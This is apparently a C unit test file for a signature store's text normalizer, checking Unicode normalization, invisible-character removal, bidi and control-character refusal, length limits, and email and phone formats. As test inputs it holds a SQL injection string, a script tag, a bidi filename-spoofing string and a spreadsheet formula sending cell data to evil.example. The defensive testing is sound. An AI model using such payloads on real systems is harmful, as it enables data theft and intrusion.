/* test-normalize.c: what people type, and what the store keeps
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "pk-normalize.h"
#include "pk-signature.h"

static char *
norm (const char *input)
{
  g_autoptr(GError) error = NULL;
  char *result = pk_normalize_text (input, -1, PK_MAX_NAME_CHARS, &error);

  g_assert_no_error (error);
  g_assert_nonnull (result);
  return result;
}

static void
assert_refused (const char *input,
                gssize      length,
                int         code)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *result = pk_normalize_text (input, length, PK_MAX_COMMENT_CHARS, &error);

  g_assert_null (result);
  g_assert_error (error, PK_SIGNATURE_ERROR, code);
}

static void
test_trim_collapse (void)
{
  g_autofree char *a = norm ("  Kim \t  Min\u00A0 Jun \n ");
  g_autofree char *b = norm ("");
  g_autofree char *c = norm (" \u3000 ");

  g_assert_cmpstr (a, ==, "Kim Min Jun");
  g_assert_cmpstr (b, ==, "");
  /* Ideographic space only: nothing left. */
  g_assert_cmpstr (c, ==, "");
}

static void
test_hangul_nfd (void)
{
  /* 홍길동 typed as conjoining jamo (NFD) equals the precomposed form. */
  const char *nfd = "\u1112\u1169\u11BC\u1100\u1175\u11AF\u1103\u1169\u11BC";
  g_autofree char *a = norm (nfd);
  g_autofree char *b = norm ("홍길동");

  g_assert_cmpstr (a, ==, "홍길동");
  g_assert_cmpstr (a, ==, b);
}

static void
test_latin_nfc (void)
{
  g_autofree char *a = norm ("Mu\u0308ller");
  g_autofree char *b = norm ("Nguye\u0302\u0303n");

  g_assert_cmpstr (a, ==, "Müller");
  g_assert_cmpstr (b, ==, "Nguyễn");
}

static void
test_invisible (void)
{
  /* ZWSP, word joiner, BOM, soft hyphen and LRM are dropped. */
  g_autofree char *a = norm ("Ki\u200Bm\u2060 \uFEFFLee\u00AD\u200E");
  /* ZWNJ in Persian and ZWJ in emoji sequences are kept. */
  g_autofree char *b = norm ("\u0645\u06CC\u200C\u062E\u0648\u0627\u0647\u0645");
  g_autofree char *c = norm ("👩\u200D👩\u200D👧");
  /* A Hangul filler is no name. */
  g_autofree char *d = norm ("\u3164");

  g_assert_cmpstr (a, ==, "Kim Lee");
  g_assert_nonnull (strstr (b, "\u200C"));
  g_assert_cmpstr (c, ==, "👩\u200D👩\u200D👧");
  g_assert_cmpstr (d, ==, "");
}

static void
test_emoji (void)
{
  g_autofree char *a = norm ("Anna 🌻 ❤\uFE0F");
  /* The flag of England uses tag characters after U+1F3F4. */
  const char *england = "\U0001F3F4\U000E0067\U000E0062\U000E0065\U000E006E\U000E0067\U000E007F";
  g_autofree char *b = norm (england);
  /* Tag characters elsewhere carry hidden text and are dropped. */
  g_autofree char *c = norm ("Bob\U000E0068\U000E0069");

  g_assert_cmpstr (a, ==, "Anna 🌻 ❤\uFE0F");
  g_assert_cmpstr (b, ==, england);
  g_assert_cmpstr (c, ==, "Bob");
}

static void
test_bidi_refused (void)
{
  const char *bidi[] = { "\u202A", "\u202B", "\u202C", "\u202D", "\u202E",
                         "\u2066", "\u2067", "\u2068", "\u2069" };

  for (guint i = 0; i < G_N_ELEMENTS (bidi); i++)
    {
      g_autofree char *input = g_strconcat ("Kim", bidi[i], "gpj.exe", NULL);

      assert_refused (input, -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
    }
}

static void
test_control_refused (void)
{
  assert_refused ("Kim\x1b[31m", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
  assert_refused ("Kim\x7f", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
  assert_refused ("Kim\xC2\x85", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
  /* An embedded NUL, with an explicit length. */
  assert_refused ("Kim\0Lee", 7, PK_SIGNATURE_ERROR_INVALID_TEXT);
  /* Invalid UTF-8: a lone continuation byte, an overlong form, a
   * surrogate. */
  assert_refused ("Kim\x80", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
  assert_refused ("\xC0\xAF", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
  assert_refused ("\xED\xA0\x80", -1, PK_SIGNATURE_ERROR_INVALID_TEXT);
}

static void
test_limits (void)
{
  g_autofree char *huge = g_strnfill (100 * 1024, 'a');
  g_autofree char *name_ok = g_strnfill (PK_MAX_NAME_CHARS, 'b');
  g_autofree char *name_long = g_strnfill (PK_MAX_NAME_CHARS + 1, 'b');
  g_autoptr(GError) error = NULL;
  g_autofree char *result = NULL;
  g_autofree char *korean = NULL;
  GString *hangul = g_string_new (NULL);

  assert_refused (huge, -1, PK_SIGNATURE_ERROR_TOO_LONG);

  result = pk_normalize_text (name_ok, -1, PK_MAX_NAME_CHARS, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (result, ==, name_ok);
  g_clear_pointer (&result, g_free);

  result = pk_normalize_text (name_long, -1, PK_MAX_NAME_CHARS, &error);
  g_assert_error (error, PK_SIGNATURE_ERROR, PK_SIGNATURE_ERROR_TOO_LONG);
  g_assert_null (result);
  g_clear_error (&error);

  /* Limits count characters, not bytes: 200 Hangul syllables (600
   * bytes) are a valid name. */
  for (guint i = 0; i < PK_MAX_NAME_CHARS; i++)
    g_string_append (hangul, "김");
  korean = g_string_free (hangul, FALSE);
  result = pk_normalize_text (korean, -1, PK_MAX_NAME_CHARS, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (result, ==, korean);
}

static void
test_kept_as_typed (void)
{
  /* Text that looks like SQL or a spreadsheet formula is just text; it is
   * the exporter's job to make it inert, not the store's to alter it. */
  const char *inputs[] = {
    "Robert'); DROP TABLE signatures;--",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1 -1 @SUM(A1)",
    "Łukasiewicz-Ó'Brien",
    "O'Neil",
    "<script>alert(1)</script>",
  };

  for (guint i = 0; i < G_N_ELEMENTS (inputs); i++)
    {
      g_autofree char *result = norm (inputs[i]);

      g_assert_cmpstr (result, ==, inputs[i]);
    }
}

static void
test_email (void)
{
  struct { const char *input; const char *expected; } good[] = {
    { "JOSE.GARCIA@Example.ES", "JOSE.GARCIA@example.es" },
    { "  hong.gildong@example.org ", "hong.gildong@example.org" },
    { "user+tag@mail.example.co.kr", "user+tag@mail.example.co.kr" },
    { "홍길동@예시.한국", "홍길동@예시.한국" },
  };
  const char *bad[] = {
    "not-an-email", "kim@@example.org", "@example.org", "kim@", "kim@example",
    "kim@example.123", "kim@-example.org", "kim@exa mple.org", "ki m@example.org",
    ".kim@example.org", "kim..lee@example.org", "kim@example..org", "kim@.org",
    "\"kim\"@example.org",
  };

  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *result = pk_normalize_email (good[i].input, &error);

      g_assert_no_error (error);
      g_assert_cmpstr (result, ==, good[i].expected);
    }

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *result = pk_normalize_email (bad[i], &error);

      g_test_message ("email %s", bad[i]);
      g_assert_null (result);
      g_assert_error (error, PK_SIGNATURE_ERROR, PK_SIGNATURE_ERROR_EMAIL);
    }
}

static void
test_email_compare_key (void)
{
  g_autofree char *a = pk_normalize_email ("Anna.Schmidt@EXAMPLE.de", NULL);
  g_autofree char *b = pk_normalize_email ("anna.schmidt@example.de", NULL);
  g_autofree char *ka = pk_email_compare_key (a);
  g_autofree char *kb = pk_email_compare_key (b);

  /* The stored address keeps the local part as typed... */
  g_assert_cmpstr (a, ==, "Anna.Schmidt@example.de");
  /* ...but two spellings compare equal. */
  g_assert_cmpstr (ka, ==, kb);
}

static void
test_phone (void)
{
  struct { const char *input; const char *expected; } good[] = {
    { "010-1234-5678", "01012345678" },
    { "010 9876 5432", "01098765432" },
    { "+49 30 1234567", "+49301234567" },
    { "(030) 123.456/7", "0301234567" },
    { "０１０-１２３４-５６７８", "01012345678" },
  };
  const char *bad[] = { "1234", "call me", "+49 30 1234567 ext 5", "12+345678",
                        "1234567890123456" };

  for (guint i = 0; i < G_N_ELEMENTS (good); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *result = pk_normalize_phone (good[i].input, &error);

      g_assert_no_error (error);
      g_assert_cmpstr (result, ==, good[i].expected);
    }

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autoptr(GError) error = NULL;
      g_autofree char *result = pk_normalize_phone (bad[i], &error);

      g_assert_null (result);
      g_assert_error (error, PK_SIGNATURE_ERROR, PK_SIGNATURE_ERROR_PHONE);
    }
}

static void
test_idempotent (void)
{
  const char *inputs[] = { "  Kim  Lee ", "Mu\u0308ller", "홍길동", "a\u200Bb" };

  for (guint i = 0; i < G_N_ELEMENTS (inputs); i++)
    {
      g_autofree char *once = norm (inputs[i]);
      g_autofree char *twice = norm (once);

      g_assert_cmpstr (once, ==, twice);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/Pk/Normalize/trim-collapse", test_trim_collapse);
  g_test_add_func ("/Pk/Normalize/hangul-nfd-equals-nfc", test_hangul_nfd);
  g_test_add_func ("/Pk/Normalize/latin-nfc", test_latin_nfc);
  g_test_add_func ("/Pk/Normalize/invisible", test_invisible);
  g_test_add_func ("/Pk/Normalize/emoji", test_emoji);
  g_test_add_func ("/Pk/Normalize/bidi-refused", test_bidi_refused);
  g_test_add_func ("/Pk/Normalize/control-refused", test_control_refused);
  g_test_add_func ("/Pk/Normalize/limits", test_limits);
  g_test_add_func ("/Pk/Normalize/kept-as-typed", test_kept_as_typed);
  g_test_add_func ("/Pk/Normalize/email", test_email);
  g_test_add_func ("/Pk/Normalize/email-compare-key", test_email_compare_key);
  g_test_add_func ("/Pk/Normalize/phone", test_phone);
  g_test_add_func ("/Pk/Normalize/idempotent", test_idempotent);

  return g_test_run ();
}
